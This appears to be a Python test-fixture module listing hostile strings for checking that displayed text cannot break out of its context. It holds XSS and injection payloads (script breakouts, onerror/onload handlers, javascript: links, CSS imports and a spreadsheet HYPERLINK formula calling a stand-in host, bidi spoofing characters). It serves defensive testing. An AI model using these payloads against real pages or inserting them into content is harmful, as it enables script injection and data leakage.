"""Texts that try to break out of wherever they are shown."""

# Each tells on itself: it sets a variable in the window around every frame, or asks another host for something.
HOSTILE = (
    "<img src=x onerror=\"top.broken='img'\">",
    "${top.broken='template'}",
    "`;top.broken='backtick';`",
    "\\`;top.broken='backslash';//",
    "</script><script>top.broken='script'</script>",
    "{{'top'}}\"};top.broken='quote';//",
    "![x](http://other.example/markdown.png)",
    '<a href="javascript:top.broken=1">x</a><svg onload=top.broken=2>',
)

# What else a text can hold: all the marks of markup, of formulas and of writing systems.
MORE = (
    *HOSTILE,
    "<iframe srcdoc=\"<script>top.broken='frame'</script>\"></iframe>",
    "<style>@import 'http://other.example/style.css'</style><link rel=stylesheet href=http://other.example/l.css>",
    "[click](javascript:top.broken='link') <javascript:top.broken='angle'>",
    "&lt;img src=x onerror=&quot;top.broken='entity'&quot;&gt; &#60;script&#62;",
    "<math><mtext><img src=http://other.example/math.png></mtext></math>",
    "$\\href{javascript:top.broken='tex'}{x}$ :red[x] :material/home: ![](http://other.example/colour.png)",
    '=HYPERLINK("http://other.example/"&A1;"x") @SUM(1+1) +1 -1',
    "\u202egpj.elif\u2066 \u200b\ufeffhidden\u2069",
    "tab\tbell\x07 escape\x1b[31m line\u2028end",
    "long " + "<b onmouseover=top.broken='long'>" * 40,
    "\U0001f4a9 \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d e\u0301\u0323\u0330",
    "%{y}<br><a href='javascript:top.broken=3'>%{customdata}</a><extra></extra>",
)
